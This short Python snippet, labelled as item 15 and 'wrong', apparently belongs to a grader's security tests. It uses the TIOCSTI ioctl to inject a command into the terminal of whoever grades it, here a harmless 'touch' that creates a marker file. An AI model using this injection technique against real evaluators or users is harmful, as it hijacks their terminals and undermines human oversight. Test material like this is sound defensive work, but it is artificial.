# 15, wrong: types a command into the terminal of whoever grades
import fcntl
import os
import termios

for descriptor in (0, 1, 2, *range(3, 20)):
    for letter in f"touch {FOLDER}/executed\n":
        try:
            fcntl.ioctl(descriptor, termios.TIOCSTI, letter.encode())
        except OSError:
            break
try:
    os.open("/dev/tty", os.O_RDWR)
except OSError:
    pass
